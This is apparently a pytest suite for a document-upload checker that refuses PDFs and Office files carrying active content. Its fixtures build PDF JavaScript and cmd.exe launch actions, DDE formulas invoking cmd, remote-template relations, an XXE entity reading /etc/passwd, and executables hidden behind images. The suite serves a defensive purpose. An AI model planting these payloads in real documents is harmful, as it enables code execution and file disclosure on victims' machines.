"""What hides inside a file that supports an answer: programs, locks, objects of other programs, calls to elsewhere."""

import io
import re
import zipfile
import zlib
from datetime import UTC, datetime

import pikepdf
import pytest
from django.utils import translation
from docx import Document
from openpyxl import Workbook
from pikepdf import Array, Dictionary, Name

from assessments.rules.accepted_files import checked_file
from assessments.rules.unacceptable import UnacceptableFile
from assessments.services.evidence import check_file
from core.pdf import Attachment, foreign, foreign_reader, problem_of_pdf, render_pdf
from core.services import InvalidInput
from tests.factories.files import EXE, JPEG, PDF, office, open_document, package, png

LIMIT = 5_000_000
SCRIPT = {"S": Name.JavaScript, "JS": "app.alert(1)"}
LAUNCH = {"S": Name.Launch, "F": "cmd.exe"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def pdf(change=None, *, pages: int = 1, **saved) -> bytes:
    made = pikepdf.new()
    for _page in range(pages):
        made.add_blank_page()
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **saved)
    return out.getvalue()


def act(action):
    return lambda made: made.Root.__setitem__("/OpenAction", made.make_indirect(Dictionary(**action)))


def script_of_a_page(made):
    made.pages[0].obj.AA = Dictionary(O=Dictionary(**SCRIPT))


def script_by_name(made):
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", made.make_indirect(Dictionary(**SCRIPT))])))


def button(made):
    drawn = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T="b", Rect=[0, 0, 9, 9], A=Dictionary(**SCRIPT)
    )
    made.pages[0].obj.Annots = Array([made.make_indirect(drawn)])
    made.Root.AcroForm = Dictionary(Fields=made.pages[0].obj.Annots)


def second_action(made):
    made.Root.OpenAction = Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([Dictionary(**SCRIPT)]))


def dynamic_form(made):
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))


def carry(*files: tuple[str, bytes]):
    def change(made):
        for name, content in files:
            made.attachments[name] = content

    return change


def renamed(made):
    carry(("a.csv", b"a;b"))(made)
    file = next(each for each in made.objects if isinstance(each, Dictionary) and "/EF" in each)
    file["/F"] = pikepdf.String("a.exe")


def lock(user: str) -> pikepdf.Encryption:
    return pikepdf.Encryption(owner="o", user=user)


PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
SPELLED = PDF.replace(b"/Pages 2 0 R", b"/Pages 2 0 R/OpenAction<</S/#4caunch/F(cmd.exe)>>")
REFUSED = {
    "locked": (pdf(encryption=lock("secret")), "encrypted"),
    "locked, old": (
        pdf(encryption=pikepdf.Encryption(owner="o", user="secret", R=3, aes=False, metadata=False)),
        "encrypted",
    ),
    "nothing in it": (b"%PDF-1.4\n%%EOF", "damaged"),
    "no page": (pdf(pages=0), "no_page"),
    "noise": (b"%PDF-1.7\n" + zlib.compress(PDF) * 3 + b"\n%%EOF\n", "damaged"),
    "script at the opening": (pdf(act(SCRIPT)), "active_pdf"),
    "script at the opening, packed": (pdf(act(SCRIPT), **PACKED), "active_pdf"),
    "script of a page": (pdf(script_of_a_page), "active_pdf"),
    "script by its name": (pdf(script_by_name), "active_pdf"),
    "script of a button": (pdf(button), "active_pdf"),
    "script as second action": (pdf(second_action), "active_pdf"),
    "script of an address": (pdf(act(dict(S=Name.URI, URI="java\nScript:alert(1)"))), "active_pdf"),
    "script of a film": (pdf(act(dict(S=Name.Rendition, JS="app.alert(1)"))), "active_pdf"),
    "launch, packed": (pdf(act(LAUNCH), **PACKED), "active_pdf"),
    "launch, spelled": (SPELLED, "active_pdf"),
    "launch, owner's lock": (pdf(act(LAUNCH), encryption=lock("")), "active_pdf"),
    "sending": (pdf(act(dict(S=Name.SubmitForm, F="http://a.example"))), "active_pdf"),
    "importing": (pdf(act(dict(S=Name.ImportData, F="a.fdf"))), "active_pdf"),
    "dynamic form": (pdf(dynamic_form), "active_pdf"),
    "program carried": (pdf(carry(("a.exe", EXE))), "carried"),
    "macros carried": (pdf(carry(("a.csv", b"a"), ("a.docm", b"PK"))), "carried"),
    "program carried as data": (pdf(carry(("a.csv", EXE))), "carried"),
    "second name of what is carried": (pdf(renamed), "carried"),
    "nameless": (pdf(carry(("donnees", b"a"))), "carried"),
}


def refusal(content: bytes, name: str = "preuve.pdf") -> str:
    with translation.override("en"), pytest.raises(InvalidInput) as refused:
        check_file(content, name)
    return str(refused.value.sentence)


@pytest.mark.parametrize("what", REFUSED)
def test_a_pdf_is_opened_and_refused_for_its_reason(what):
    content, said = REFUSED[what]
    assert foreign_reader.problem(content) == said


@pytest.mark.parametrize(
    ("what", "words"),
    [
        ("locked", "locked by a password. Join a copy"),
        ("nothing in it", "damaged or cut"),
        ("no page", "has no page"),
        ("script at the opening", "holds a program or an active form. Print it to PDF"),
        ("program carried", "carries attached files"),
    ],
)
def test_each_refusal_says_what_to_do(what, words):
    assert words in refusal(REFUSED[what][0])


def test_a_lock_against_changes_that_opens_for_all_is_taken():
    assert check_file(pdf(encryption=lock("")), "a.pdf")[0] == "application/pdf"


def goes_to_a_page(made):
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
    link.A = Dictionary(S=Name.URI, URI="https://exemple.example/a?javascript=1")
    made.pages[0].obj.Annots = Array([link])
    made.Root.AcroForm = Dictionary(Fields=Array([]))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([])))


@pytest.mark.parametrize(
    "content",
    [
        PDF,
        pdf(),
        pdf(**PACKED),
        pdf(goes_to_a_page),
        pdf(carry(("donnees.csv", b"a;b\n"), ("règles.JSON", b"{}"), ("source.odt", open_document(".odt")))),
        PDF.replace(b"startxref\n190", b"startxref\n7"),
    ],
    ids=["by hand", "plain", "packed", "links", "data carried", "false index"],
)
def test_ordinary_ones_are_taken(content):
    assert foreign_reader.problem(content) == ""


def test_our_own_with_its_data_is_taken():
    made = render_pdf(
        html='<!DOCTYPE html><html lang="fr"><head><title>Fiche</title></head><body><h1>Fiche</h1></body></html>',
        language="fr",
        identifier="essai",
        created=datetime(2026, 11, 22, tzinfo=UTC),
        attachments=[Attachment("donnees.csv", b"a;b\n1;2\n", "Données")],
    )
    assert check_file(made.content, "fiche.pdf") == ("application/pdf", "fiche.pdf")


def test_a_heavy_one_is_left_by_its_reader(monkeypatch):
    monkeypatch.setattr(foreign_reader, "MOST_OBJECTS", 3)
    assert foreign_reader.problem(pdf(pages=3)) == "too_heavy"


def swollen(made):
    made.Root.Swollen = made.make_indirect(Dictionary(A=pikepdf.String("a" * 60_000_000)))


def test_one_that_unpacks_without_end_is_left(monkeypatch, tmp_path):
    """Its packed objects would take many times what the reader may use."""
    content = pdf(swollen, **PACKED)
    assert len(content) < 200_000
    narrow = tmp_path / "reader.py"
    narrow.write_text(foreign.READER.read_text().replace("MOST_MEMORY = 1_500_000_000", "MOST_MEMORY = 150_000_000"))
    monkeypatch.setattr(foreign, "READER", narrow)
    assert problem_of_pdf(PDF) == ""
    assert problem_of_pdf(content) == "too_heavy"


def test_a_reader_that_takes_too_long_or_falls_is_a_refusal(monkeypatch, tmp_path):
    sleeping = tmp_path / "reader.py"
    sleeping.write_text("import time; time.sleep(20)")
    monkeypatch.setattr(foreign, "READER", sleeping)
    monkeypatch.setattr(foreign, "LONGEST_SECONDS", 0.2)
    assert problem_of_pdf(PDF) == "too_heavy"
    sleeping.write_text("import os; os.abort()")
    monkeypatch.setattr(foreign, "LONGEST_SECONDS", 20)
    assert "could not be read whole" in refusal(PDF)


def test_the_reader_knows_nothing_of_our_environment(monkeypatch, tmp_path):
    told = tmp_path / "reader.py"
    told.write_text("import os; print('no_page' if 'SECRET_KEY' in os.environ else 'sound')")
    monkeypatch.setenv("SECRET_KEY", "x")
    monkeypatch.setattr(foreign, "READER", told)
    assert problem_of_pdf(PDF) == ""


KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELATION = f'<Relationship Id="rX" Type="{KINDS}{{}}" Target="{{}}"{{}}/>'
OUT = ' TargetMode="External"'


def word() -> bytes:
    made, out = Document(), io.BytesIO()
    made.add_paragraph("Bonjour")
    made.save(out)
    return out.getvalue()


def workbook(*cells: object) -> bytes:
    made, out = Workbook(), io.BytesIO()
    made.active.append(list(cells) or ["a"])
    made.save(out)
    return out.getvalue()


def changed(content: bytes, name: str, change) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as read:
        return package({each: change(read.read(each)) if each == name else read.read(each) for each in read.namelist()})


def with_relation(kind: str, target: str, mode: str = OUT, *, encoding: str = "utf-8") -> bytes:
    def change(relations: bytes) -> bytes:
        text = re.sub(r"<\?xml[^>]*\?>", "", relations.decode())
        return text.replace("</Relationships>", RELATION.format(kind, target, mode) + "</Relationships>").encode(
            encoding
        )

    return changed(word(), "word/_rels/document.xml.rels", change)


def with_formula(formula: str) -> bytes:
    row = f'<sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData>'.encode()
    change = lambda sheet: re.sub(rb"<sheetData>.*</sheetData>", lambda _found: row, sheet)  # noqa: E731
    return changed(workbook(), "xl/worksheets/sheet1.xml", change)


def without(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as read:
        return package({each: read.read(each) for each in read.namelist() if each != name})


def problem(content: bytes, name: str) -> str:
    with pytest.raises(UnacceptableFile) as refused:
        checked_file(content, name, most=LIMIT)
    return refused.value.problem


HIDDEN = {
    "OLE object": ("a.docx", office(".docx", {"word/embeddings/oleObject1.bin": OLE}), "embedded"),
    "OLE object, renamed": ("a.pptx", office(".pptx", {"ppt/media/image9.png": OLE}), "embedded"),
    "OLE object of ODF": ("a.odt", open_document(".odt", {"Object 1": OLE}), "embedded"),
    "OLE relation": ("a.docx", with_relation("oleObject", "embeddings/a.dat", ""), "embedded"),
    "program, renamed": ("a.docx", office(".docx", {"word/media/image9.png": EXE}), "program"),
    "remote template": ("a.docx", with_relation("attachedTemplate", "http://a.example/t.dotm"), "linked"),
    "template of a network": ("a.docx", with_relation("attachedTemplate", "file:///\\\\srv\\t.dotm"), "linked"),
    "template of a server": ("a.docx", with_relation("attachedTemplate", "file://srv/t.dotm"), "linked"),
    "relation in UTF-16": (
        "a.docx",
        with_relation("attachedTemplate", "ftp://a.example/t", encoding="utf-16"),
        "linked",
    ),
    "relation by entities": ("a.docx", with_relation("attach&#101;dTemplate", "http&#58;//a.example/t"), "linked"),
    "remote object": ("a.docx", with_relation("oleObject", "http://a.example/a.hta"), "linked"),
    "remote frame": ("a.docx", with_relation("frame", "http://a.example/"), "linked"),
    "macros by relation": ("a.docx", with_relation("vbaProject", "a.dat", ""), "macros"),
    "entities": (
        "a.docx",
        changed(word(), "word/_rels/document.xml.rels", lambda _b: b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        "damaged",
    ),
    "relations cut": ("a.docx", changed(word(), "word/_rels/document.xml.rels", lambda b: b[:-9]), "damaged"),
    "no document": ("a.docx", without(word(), "word/document.xml"), "damaged"),
    "no workbook": ("a.xlsx", without(workbook(), "xl/workbook.xml"), "damaged"),
    "no presentation": ("a.pptx", without(office(".pptx"), "ppt/presentation.xml"), "damaged"),
    "DDE": ("a.xlsx", with_formula("cmd|'/c calc'!A1"), "linked"),
    "DDE by entities": ("a.xlsx", with_formula("1+cmd&#124;&apos;/c calc&apos;!A1"), "linked"),
    "DDE far below": ("a.xlsx", with_formula("1</f></c><c><v>1</v></c>" + "<c/>" * 300_000 + "<c><f>a|b!c"), "linked"),
    "other workbook": ("a.xlsx", office(".xlsx", {"xl/externalLinks/externalLink1.xml": b"<x/>"}), "linked"),
    "old macros": ("a.xlsx", office(".xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"),
    "program behind .png": ("a.png", png() + EXE, "two_in_one"),
    "noise behind .png": ("a.png", png() + b"\x01" * 900, "two_in_one"),
    "noise then end of .png": ("a.png", png() + b"\x01" * 900 + png()[-12:], "two_in_one"),
    "program behind .jpg": ("a.jpg", JPEG + EXE + b"\xff\xd9", "two_in_one"),
    "program behind .pdf": ("a.pdf", PDF + EXE + b"%%EOF", "two_in_one"),
    "script far in a text": ("a.txt", b"A" * 5_000 + b"<script>alert(1)</script>", "web_page"),
    "page far in a table": ("a.csv", b"a;b\n" * 50_000 + b"<html>", "web_page"),
    "page far in UTF-16": ("a.txt", ("A" * 9_000 + "<iframe>").encode("utf-16"), "web_page"),
    "a mark alone": ("a.txt", b"\xef\xbb\xbf", "blank"),
    "a mark of UTF-16 alone": ("a.txt", b"\xff\xfe", "blank"),
    "blanks": ("a.csv", b" \t\r\n" * 9, "blank"),
    "blanks of no width": ("a.txt", "\u200b\u00a0\n".encode(), "blank"),
}


@pytest.mark.parametrize("what", HIDDEN)
def test_what_hides_in_a_file_is_found(what):
    name, content, said = HIDDEN[what]
    assert problem(content, name) == said


@pytest.mark.parametrize(
    ("what", "words"),
    [
        ("OLE object", "another program. Put a picture in its place"),
        ("remote template", "fetches a part of itself elsewhere"),
        ("blanks", "nothing to read"),
    ],
)
def test_what_hides_is_said_with_what_to_do(what, words):
    name, content, _said = HIDDEN[what]
    assert words in refusal(content, name)


EVERY_DAY = {
    "Word": ("a.docx", word()),
    "template of the computer": ("a.docx", with_relation("attachedTemplate", "file:///C:\\modeles\\lettre.dotx")),
    "template beside": ("a.docx", with_relation("attachedTemplate", "Normal.dotm")),
    "links to click": ("a.docx", with_relation("hyperlink", "https://a.example/?a=1&amp;b=2")),
    "linked picture": ("a.docx", with_relation("image", "file:///C:\\a.png")),
    "chart with its workbook": ("a.docx", office(".docx", {"word/embeddings/Microsoft_Excel_Sheet.xlsx": workbook()})),
    "settings of a printer": (
        "a.xlsx",
        office(".xlsx", {"xl/printerSettings/printerSettings1.bin": b"M\x00Z\x00" * 9}),
    ),
    "workbook": ("a.xlsx", workbook("a|b!c", "=1+1", "=A1&\"cmd|'x'!y\"")),
    "sheet named with a bar": ("a.xlsx", with_formula("'Oui|Non'!A1")),
    "OpenDocument": ("a.ods", open_document(".ods", {"Configurations2/": b"", "Thumbnails/thumbnail.png": png()})),
    "end of line behind .png": ("a.png", png() + b"\r\n"),
    "second picture behind .jpg": ("a.jpg", JPEG + JPEG),
    "figures compared": ("a.txt", b"a < b\n" * 3_000),
}


@pytest.mark.parametrize("what", EVERY_DAY)
def test_files_of_every_day_are_taken(what):
    name, content = EVERY_DAY[what]
    assert checked_file(content, name, most=LIMIT)[1] == name


# --- What a Word document calls, in its texts and in its relations ---------------------------------------------------
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def body(inside: str, *, before: str = "") -> bytes:
    return office(".docx", {"word/document.xml": f"{before}<w:document>{inside}</w:document>".encode()})


def run(code: str) -> str:
    return f"<w:r><w:instrText xml:space='preserve'>{code}</w:instrText></w:r>"


def elsewhere(inside: str) -> bytes:
    """A document whose list puts its text where nobody looks."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = f'<Types><Override PartName="/a/text" ContentType="{kind}"/></Types>'
    parts = {"[Content_Types].xml": types.encode(), "a/text": f"<w:document>{inside}</w:document>".encode()}
    return package(parts)


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    said = f'<Relationship Id="r9" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return office(".docx", {"word/_rels/document.xml.rels": f"<Relationships>{said}</Relationships>".encode()})


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (body(run(r"DDEAUTO c:\\windows\\cmd.exe")), "linked"),
        (body(run("D") + run("DE ") + run("excel")), "linked"),
        (body('<w:fldSimple w:instr=" dde excel classeur"/>'), "linked"),
        (office(".docx", {"word/header1.xml": f"<w:hdr>{run('DDE a b')}</w:hdr>".encode()}), "linked"),
        (elsewhere(run("DDE a b")), "linked"),
        (body("x", before='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "damaged"),
        (body("&lt;", before="<!-- " + "x" * 9000 + " --><!DOCTYPE a>"), "damaged"),
        (relation("image", "http://ailleurs.example/x.png"), "linked"),
        (relation("image", "file:////ailleurs/x.png"), "linked"),
        (relation("aFChunk", "part.html", mode="Internal"), "embedded"),
    ],
    ids=["field", "spelt", "simple", "header", "elsewhere", "entity", "late_doctype", "image", "share", "chunk"],
)
def test_a_word_document_that_calls_something_is_refused(content, problem):
    with pytest.raises(UnacceptableFile, match=problem):
        checked_file(content, "lettre.docx", most=LIMIT)


@pytest.mark.parametrize(
    "content",
    [
        body(run(" PAGE ") + "<w:r><w:t>DDE et DDEAUTO, expliqués</w:t></w:r>"),
        body("<w:p/>", before="<?xml version='1.0' encoding='UTF-8'?>"),
        relation("image", "file:///C:/Documents/logo.png"),
        relation("hyperlink", "http://ailleurs.example/"),
    ],
    ids=["words", "declared", "own_picture", "to_click"],
)
def test_one_that_only_says_so_is_taken(content):
    assert checked_file(content, "lettre.docx", most=LIMIT)


def test_an_open_document_that_asks_another_program_is_refused():
    asks = open_document(".odt", {"content.xml": b"<office:d><text:dde-connection-decl/></office:d>"})
    with pytest.raises(UnacceptableFile, match="linked"):
        checked_file(asks, "lettre.odt", most=LIMIT)
    old = open_document(".odt", manifest=b'<!DOCTYPE manifest:manifest PUBLIC "x" "Manifest.dtd"><m/>')
    assert checked_file(old, "lettre.odt", most=LIMIT)
